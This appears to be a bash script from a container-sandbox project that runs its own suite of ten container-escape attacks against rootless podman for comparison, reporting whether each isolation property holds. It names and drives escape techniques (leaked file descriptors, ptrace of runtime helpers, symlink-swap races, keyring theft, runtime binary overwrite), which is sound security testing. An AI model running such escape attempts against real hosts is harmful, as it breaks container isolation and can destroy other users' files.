#!/usr/bin/env bash
# The escape attacks of integration/escape_test.go, against rootless podman
# (4.3, --runtime runc) as the test user, for comparison. Prints one line
# per attack: "ATTACK | podman: holds|HOLE (evidence)".
#
#   sudo bash hack/attack-podman.sh     # needs bin/attack (make build-tests)
#
# As root it prepares the test user's podman configuration (overlay, runc;
# then podman system reset -f: this wipes that user's podman storage),
# stages bin/attack and the busybox archive, and re-runs itself as the user.
# Every loop is bounded in count and time.
set -euo pipefail

repo=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
CACHE=${USANDBOX_TEST_CACHE:-/var/cache/usandbox-test}
TEST_USER=${USANDBOX_TEST_USER:-usandbox-test}

if [[ $(id -u) -eq 0 ]]; then
	bash "$repo/hack/testuser.sh"
	uid=$(id -u "$TEST_USER")
	home=$(getent passwd "$TEST_USER" | cut -d: -f6)
	stage=$(mktemp -d /tmp/attack-podman.XXXXXX)
	trap 'rm -rf "$stage"' EXIT
	cp "$repo/bin/attack" "$repo/bin/mkimage" "$0" "$stage/"
	chmod -R a+rX "$stage"
	chown -R "$TEST_USER:" "$stage"
	install -d -o "$TEST_USER" -g "$TEST_USER" "$home/.config" "$home/.config/containers"
	printf '[storage]\ndriver = "overlay"\n' >"$home/.config/containers/storage.conf"
	printf '[engine]\nruntime = "runc"\n' >"$home/.config/containers/containers.conf"
	chown "$TEST_USER:" "$home/.config/containers/"*.conf
	runuser -u "$TEST_USER" -- env -i HOME="$home" USER="$TEST_USER" LOGNAME="$TEST_USER" \
		PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin XDG_RUNTIME_DIR="/run/user/$uid" TMPDIR=/tmp \
		ATK="$stage/attack" MKIMAGE="$stage/mkimage" CACHE="$CACHE" \
		bash "$stage/$(basename "$0")"
	exit
fi

: "${ATK:?run as root, or set ATK to bin/attack}"
# Attacks fail on purpose: no -e, no pipefail from here on.
set +e +o pipefail
MKIMAGE=${MKIMAGE:-$repo/bin/mkimage}
CACHE=${CACHE:-/var/cache/usandbox-test}
work=$(mktemp -d)
cleanup() {
	podman rm -f -a -t 0 >/dev/null 2>&1 || true
	podman unshare rm -rf "$work" 2>/dev/null || rm -rf "$work"
}
trap cleanup EXIT
podman system reset -f >/dev/null 2>&1
podman load -q -i "$CACHE/images/busybox.tar" >/dev/null 2>&1 || podman pull -q "oci-archive:$CACHE/images/busybox.tar" >/dev/null
img=$(podman images -q | head -1)
podman tag "$img" localhost/busybox:latest
P=(podman run --network none)
V=(-v "$ATK:/attack:ro")
mark=$work/marker
mkdir -p "$mark"
marker=$mark/host-only-$RANDOM$RANDOM
echo host >"$marker"
chmod -R a+rwX "$work"
report() { printf '%s | podman: %s\n' "$1" "$2"; }
holes() { grep '^HOLE' || true; }

# 1. Working directory through a leaked fd.
payload=(sh -c "/attack cwdcheck -marker $marker; echo PWD \$(pwd -P)")
out=""
for n in $(seq 3 32); do
	out+=$("${P[@]}" --rm "${V[@]}" -w "/proc/self/fd/$n" busybox "${payload[@]}" 2>&1 | holes)
done
"$MKIMAGE" -out "$work/wdimg" -tag latest -cmd '["sh"]' -workdir /proc/self/fd/7 -layer-dir "$CACHE/rootfs/busybox" >/dev/null 2>&1 || true
if podman pull -q "oci:$work/wdimg:latest" >/dev/null 2>&1; then
	wdimg=$(podman images -q --filter reference='*wdimg*' | head -1)
	for n in 7; do out+=$("${P[@]}" --rm "${V[@]}" "${wdimg:-wdimg}" "${payload[@]}" 2>&1 | holes); done
fi
podman run -d --name wd "${V[@]}" --network none busybox sleep 600 >/dev/null
for n in $(seq 3 32); do
	out+=$(podman exec -w "/proc/self/fd/$n" wd "${payload[@]}" 2>&1 | holes)
done
podman rm -f -t 0 wd >/dev/null
left=$(ls "$mark" | grep -vc '^host-only' || true)
if [[ -z $out && $left -eq 0 ]]; then report "1 workdir /proc/self/fd/N (run, image, exec)" holds; else report "1 workdir /proc/self/fd/N" "HOLE $(echo "$out" | head -2)"; fi

# 2. The detached init's window: the command walks the fds of every
# process it sees (podman's pid 1 is the command itself; conmon is outside).
out=""
start=$SECONDS
i=0
while ((i < 40 && SECONDS - start < 20)); do
	out+=$("${P[@]}" --rm "${V[@]}" busybox /attack fdwalk -pids all -tries 1000 -timeout 150ms -marker "$marker" 2>&1 | holes)
	i=$((i + 1))
done
if [[ -z $out ]]; then report "2 fds of pid 1 and helpers ($i runs)" holds; else report "2 fds of pid 1" "HOLE $(echo "$out" | head -1)"; fi

# 3. ptrace of runtime helpers. podman's pid 1 is the command itself (its
# --init, catatonit, is not installed here) and conmon stays outside, so
# only helpers (runc init of a concurrent exec) are targets.
podman run -d --name pt --cap-add SYS_PTRACE "${V[@]}" --network none busybox sleep 600 >/dev/null
out=""
for _ in $(seq 1 10); do
	podman exec pt true >/dev/null 2>&1 &
	out+=$(podman exec pt /attack ptrace -pid1=false 2>&1 | holes)
	wait
done
podman rm -f -t 0 pt >/dev/null
if [[ -z $out ]]; then report "3 ptrace of runtime helpers with SYS_PTRACE (pid 1 is the command)" holds; else report "3 ptrace of helpers with SYS_PTRACE" "HOLE $(echo "$out" | head -3 | tr '\n' ';')"; fi

# 4. --rm cleanup and symlinks swapped into the upper layer.
store=$HOME/.local/share/containers
vict=()
for d in "$store/storage" "$store" "$HOME/.local/share"; do
	mkdir -p "$d/victims/sub"
	for j in $(seq 1 20); do : >"$d/victims/v$j"; : >"$d/victims/sub/v$j"; done
	vict+=("$d/victims")
done
start=$SECONDS
for r in $(seq 0 11); do
	((SECONDS - start < 60)) || break
	depth=$((4 + r % 4))
	tgt=$(printf '../%.0s' $(seq 1 $depth))victims
	podman run -d --rm "${V[@]}" --network none busybox sh -c "/attack swaprace -dir /race -target $tgt -n 6 >/dev/null & while [ ! -d /race/d05/sub ]; do sleep 0.01; done; sleep 0.3" >/dev/null
	for _ in $(seq 1 100); do [[ -z $(podman ps -aq) ]] && break; sleep 0.1; done
done
lost=0
for d in "${vict[@]}"; do
	n=$(find "$d" -type f | wc -l)
	((n == 40)) || lost=$((lost + 40 - n))
	rm -rf "$d"
done
if ((lost == 0)); then report "4 --rm cleanup follows swapped symlinks" holds; else report "4 --rm cleanup" "HOLE $lost victim files deleted"; fi

# 5. ro by path: a :ro volume inside a shared volume another sandbox swaps.
shared=$work/shared other=$work/other
mkdir -p "$shared/sub" "$shared/elsewhere" "$other"
m5=ro-marker-$RANDOM
: >"$other/$m5"
chmod -R a+rwX "$shared" "$other"
podman run -d --name swapper "${V[@]}" --network none -v "$shared:/v" busybox /attack swaploop -dir /v/sub -targets /proc,/proc/self,elsewhere,/proc/sys/kernel -for 70s >/dev/null
out=""
start=$SECONDS
runs=0
refused=0
while ((runs < 60 && SECONDS - start < 60)); do
	if o=$("${P[@]}" --rm "${V[@]}" -v "$shared:/v" -v "$other:/v/sub:ro" busybox /attack rocheck -under /v -marker "$m5" 2>&1); then
		out+=$(echo "$o" | holes)
	else
		refused=$((refused + 1))
		out+=$(echo "$o" | holes)
	fi
	runs=$((runs + 1))
done
podman rm -f -t 0 swapper >/dev/null
extra=$(ls "$other" | grep -vc "^$m5\$" || true)
if [[ -z $out && $extra -eq 0 ]]; then report "5 ro mount flags by path ($runs runs, $refused refused)" holds; else report "5 ro mount flags by path ($runs runs, $refused failed)" "HOLE $(echo "$out" | sort -u | head -3 | tr '\n' ';') files=$extra"; fi

# 6. The caller's session keyring.
desc=attack-secret-$RANDOM
out=$("$ATK" withkey -desc "$desc" -- podman run --rm --network none "${V[@]}" busybox /attack keyring -desc "$desc" -serial '{serial}' -host-session '{session}' 2>&1 | holes)
podman run -d --name kr "${V[@]}" --network none busybox sleep 600 >/dev/null
out+=$("$ATK" withkey -desc "$desc" -- podman exec kr /attack keyring -desc "$desc" -serial '{serial}' -host-session '{session}' 2>&1 | holes)
podman rm -f -t 0 kr >/dev/null
if [[ -z $out ]]; then report "6 session keyring (run, exec)" holds; else report "6 session keyring" "HOLE $(echo "$out" | head -2 | tr '\n' ';')"; fi

# 7. The caller's terminal without -t (script(1) gives a pty).
o7=$work/out7
mkdir -p "$o7"
chmod 777 "$o7"
script -qec "podman run --rm --network none -v $ATK:/attack:ro -v $o7:/out busybox /attack ttycheck -out /out/run" /dev/null >/dev/null 2>&1 </dev/null || true
podman run -d --name term "${V[@]}" -v "$o7:/out" --network none busybox sleep 600 >/dev/null
script -qec "podman exec term /attack ttycheck -out /out/exec" /dev/null >/dev/null 2>&1 </dev/null || true
podman rm -f -t 0 term >/dev/null
t7=$(cat "$o7/run" "$o7/exec" 2>/dev/null | grep -c 'tty=true' || true)
n7=$(cat "$o7/run" "$o7/exec" 2>/dev/null | grep -c '^FD' || true)
if ((n7 == 6 && t7 == 0)); then report "7 caller's terminal without -t (run, exec)" holds; elif ((n7 < 6)); then report "7 caller's terminal" "no report ($n7 lines)"; else report "7 caller's terminal without -t" "HOLE $t7 of 6 fds are the terminal"; fi

# 8. A run root another user planted in TMPDIR: podman's run root.
rr=$(env -u XDG_RUNTIME_DIR TMPDIR=/tmp podman info --format '{{.Store.RunRoot}}' 2>/dev/null || true)
report "8 run root without XDG_RUNTIME_DIR" "uses $rr (not \$TMPDIR/...; not attacked here)"

# 9. The runtime binary: watch exec helpers with SYS_PTRACE.
runc_hash=$(sha256sum "$(command -v runc)" | cut -d' ' -f1)
podman_hash=$(sha256sum "$(command -v podman)" | cut -d' ' -f1)
o9=$work/out9
mkdir -p "$o9"
chmod 777 "$o9"
podman run -d --name exe --cap-add SYS_PTRACE "${V[@]}" -v "$o9:/out" --network none busybox sh -c "/attack exewrite -hash $runc_hash -marker $marker -needle $store -hold 6s >/out/r; sleep 600" >/dev/null
end=$((SECONDS + 5))
while ((SECONDS < end)); do podman exec exe true >/dev/null 2>&1 || true; done
for _ in $(seq 1 40); do grep -q '^OK\|^HOLE' "$o9/r" 2>/dev/null && break; sleep 0.25; done
podman rm -f -t 0 exe >/dev/null
out=$(holes <"$o9/r")
seen=$(grep -c 'usandbox binary (readable)' "$o9/r" || true)
if [[ -z $out && $(sha256sum "$(command -v runc)" | cut -d' ' -f1) == "$runc_hash" ]]; then report "9 runtime binary and store (SYS_PTRACE, exec racing)" "holds (runc's exe seen readable $seen times)"; else report "9 runtime binary" "HOLE $(echo "$out" | head -2 | tr '\n' ';')"; fi

# 10. Seccomp by default.
sc=$("${P[@]}" --rm "${V[@]}" busybox /attack syscalls 2>&1)
echo "$sc" | awk '$1 == "SYSCALL" { printf "%s=%s ", $2, $3 } END { print "" }' | sed 's/^/10 podman default profile: /' >&2
bad=$(echo "$sc" | awk '$1 == "SYSCALL" && $2 != "newer_469" && $3 != "EPERM" { print $2 "=" $3 }' | tr '\n' ' ')
new=$(echo "$sc" | awk '$2 == "newer_469" { print $3 }')
un=$("${P[@]}" --rm --security-opt seccomp=unconfined "${V[@]}" busybox /attack syscalls 2>&1 | awk '$1 == "SYSCALL" && ($2 == "add_key" || $2 == "keyctl" || $2 == "personality" || $2 == "io_uring_setup") { print $2 "=" $3 }' | tr '\n' ' ')
if [[ -z $bad && $new == ENOSYS ]]; then report "10 seccomp default (unconfined: $un)" holds; else report "10 seccomp default" "not blocked: ${bad:-none}; file_setattr: $new; unconfined: $un"; fi
